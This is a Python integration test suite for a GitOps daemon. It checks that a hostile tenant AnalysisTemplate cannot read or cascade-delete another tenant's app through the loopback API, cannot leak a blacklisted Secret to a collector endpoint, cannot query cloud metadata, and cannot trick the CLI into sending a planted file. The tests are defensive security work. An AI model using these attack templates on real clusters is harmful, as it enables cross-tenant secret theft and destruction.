"""A tenant's AnalysisTemplate turned against the host: it may not reach the daemon's own API
(to read or delete another tenant's app), may not read a Secret its project keeps from it,
and the open loopback API no longer lets anyone write without the daemon's local token."""

from __future__ import annotations

import http.server
import json
import stat
import threading
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from tests.conftest import Cluster, GitRepo, application, wait_for, write_config
from tests.integration.test_daemon import running
from tests.integration.test_rollouts import SERVICES, ro_status, rollout
from tests.integration.test_sync import configmap, get
from tests.integration.test_tenant_escapes import project

pytestmark = pytest.mark.cluster
SECRET_VALUE = "s3cr3t-db-passw0rd"


class _Listener:
    """An HTTP endpoint that records every request (an attacker's collector)."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace")
                outer.seen.append(f"{self.command} {self.path} {dict(self.headers)} {body}")
                answer = json.dumps({"ok": True, "echo": dict(self.headers)}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            do_GET = do_POST = _any

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class _FakeDaemon:
    """A program squatting the daemon's port: 401 naming a file of its choice as `tokenFile`,
    recording the Authorization headers it receives."""

    def __init__(self, token_file: str) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                outer.seen.append(self.headers.get("Authorization") or "")
                body = json.dumps({"error": "token needed", "tokenFile": token_file}).encode()
                self.send_response(401)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def _template(api_port: int, listener_port: int) -> str:
    api = f"http://127.0.0.1:{api_port}/api/v1/applications/victim"
    return f"""apiVersion: argoproj.io/v1alpha1
kind: AnalysisTemplate
metadata:
  name: evil
spec:
  args:
    - name: token
      valueFrom:
        secretKeyRef: {{name: db, key: password}}
  metrics:
    - name: peek
      count: 1
      provider:
        web:
          url: "{api}"
          jsonPath: "{{$.metadata.name}}"
    - name: kill
      count: 1
      provider:
        web:
          method: DELETE
          url: "{api}?cascade=true"
    - name: leak
      count: 1
      provider:
        web:
          method: POST
          url: "http://127.0.0.1:{listener_port}/collect"
          headers:
            - key: X-Token
              value: "{{{{args.token}}}}"
          jsonPath: "{{$.ok}}"
    - name: metadata
      count: 1
      provider:
        web:
          url: "http://169.254.169.254/latest/meta-data/"
"""


STEP = """        - setWeight: 20
        - analysis:
            templates:
              - templateName: evil
        - pause: {}"""


def test_a_tenants_analysis_cannot_reach_the_daemon_or_read_a_forbidden_secret(
    cluster: Cluster, namespace: str, git_repo: GitRepo, tmp_path: Path
) -> None:
    """The tenant's web metrics aimed at the daemon's loopback API (read and cascade-delete
    another app) and at cloud metadata are refused by the allow-list; its secretKeyRef to a
    Secret its project blacklists is refused before anything is sent; the victim app and its
    resources stay; nothing the tenant can read carries the API's answers or the secret."""
    victim_ns = f"{namespace}-v"
    cluster.kubectl("create", "namespace", victim_ns)
    cluster.kubectl(
        "create", "secret", "generic", "db", "-n", namespace,
        f"--from-literal=password={SECRET_VALUE}",
    )  # fmt: skip
    listener = _Listener()
    git_repo.write(
        {
            "victim/cm.yaml": configmap("victim-data"),
            "app/svc.yaml": SERVICES,
            "app/ro.yaml": rollout("nginx:1", STEP),
        }
    )
    victim = application("victim", git_repo.url, "victim", victim_ns)
    victim["metadata"]["finalizers"] = ["resources-finalizer.argocd.argoproj.io"]
    tenant = application("tenant", git_repo.url, "app", namespace)
    tenant["spec"]["project"] = "team-a"
    cfg = write_config(
        tmp_path,
        cluster,
        [victim, tenant],
        rollouts={"analysis": {"allowedAddresses": [f"http://127.0.0.1:{listener.port}"]}},
    )
    team = project(
        "team-a", [namespace], namespaceResourceBlacklist=[{"group": "", "kind": "Secret"}]
    )
    (tmp_path / "apps" / "team-a.yaml").write_text(yaml.safe_dump(team))
    try:
        with running(cfg) as d:
            api_port = int(d.url.rsplit(":", 1)[1])
            wait_for(lambda: d.synced("victim"), timeout=60, what="victim synced")
            wait_for(
                lambda: ro_status(cluster, namespace).get("phase") == "Healthy",
                timeout=90,
                what="first deploy",
            )
            git_repo.write(
                {
                    "app/at.yaml": _template(api_port, listener.port),
                    "app/ro.yaml": rollout("nginx:2", STEP),
                }
            )
            d.api("/api/v1/applications/tenant/refresh", method="POST")

            def finished() -> dict[str, Any] | None:
                runs = json.loads(
                    cluster.kubectl("get", "analysisrun", "-n", namespace, "-o", "json")
                )["items"]
                results = {
                    r["name"]: r
                    for run in runs
                    for r in (run.get("status") or {}).get("metricResults") or []
                }
                done = all(
                    (results.get(n) or {}).get("measurements") for n in ("peek", "kill", "leak")
                )
                return runs[0] if runs and done else None

            run = wait_for(finished, timeout=90, what="the analysis measured once")
            results = {r["name"]: r for r in run["status"]["metricResults"]}
            for name in ("peek", "kill", "metadata"):
                m = results[name]["measurements"][-1]
                assert m["phase"] == "Error", (name, m)
                assert "not in the allowed analysis addresses" in m["message"], m
            leak = results["leak"]["measurements"][-1]
            assert leak["phase"] == "Error"
            assert "namespaceResourceBlacklist" in leak["message"], leak
            text = json.dumps(run)
            assert SECRET_VALUE not in text
            assert '"victim"' not in text.replace('"name": "victim"', "")
            assert not any(SECRET_VALUE in s for s in listener.seen), listener.seen
            assert d.app("victim") is not None
            assert get(cluster, victim_ns, "configmap/victim-data") is not None
    finally:
        listener.server.shutdown()
        cluster.kubectl("delete", "namespace", victim_ns, "--wait=false", check=False)


def test_open_loopback_api_needs_the_local_token_to_write(
    cluster: Cluster, namespace: str, git_repo: GitRepo, tmp_path: Path
) -> None:
    """Without apiTokens, reads stay open on loopback but a sync or delete without a token is
    401 naming the local token file, which only the daemon's user can read (0600); with that
    token the write is accepted, and `gitopsd app sync` finds it by itself."""
    git_repo.write({"a/cm.yaml": configmap("local-token")})
    cfg = write_config(tmp_path, cluster, [application("lt", git_repo.url, "a", namespace)])
    with running(cfg) as d:
        wait_for(lambda: d.synced("lt"), timeout=60, what="synced")
        assert d.api("/api/v1/applications/lt").status_code == 200
        for method, path in (
            ("POST", "/api/v1/applications/lt/sync"),
            ("DELETE", "/api/v1/applications/lt"),
            ("POST", "/api/v1/backup"),
        ):
            r = httpx.request(method, d.url + path, json={}, timeout=10)
            assert r.status_code == 401, (method, path, r.status_code)
        token_file = Path(r.json()["tokenFile"])
        assert token_file == tmp_path / "state" / "local-api-token"
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        token = token_file.read_text().strip()
        ok = httpx.post(
            d.url + "/api/v1/applications/lt/sync",
            json={},
            headers={"Authorization": f"Bearer {token}"},
            timeout=10,
        )
        assert ok.status_code == 202, ok.text
        import subprocess

        from tests.integration.test_daemon import GITOPSD

        out = subprocess.run(
            [GITOPSD, "app", "sync", "lt", "--server", d.url],
            capture_output=True,
            text=True,
            timeout=60,
            env=d.cli_env(),
        )
        assert out.returncode == 0, out.stderr
        # A program on the daemon's port cannot make the CLI send a file it names.
        planted = tmp_path / "not-a-token"
        planted.write_text("private-material\n")
        planted.chmod(0o600)
        fake = _FakeDaemon(str(planted))
        try:
            out = subprocess.run(
                [GITOPSD, "app", "sync", "lt", "--server", fake.url],
                capture_output=True,
                text=True,
                timeout=60,
                env=d.cli_env(),
            )
        finally:
            fake.server.shutdown()
        assert not any("private-material" in h for h in fake.seen), fake.seen
        assert any(token in h for h in fake.seen), "the CLI sent its own local token"
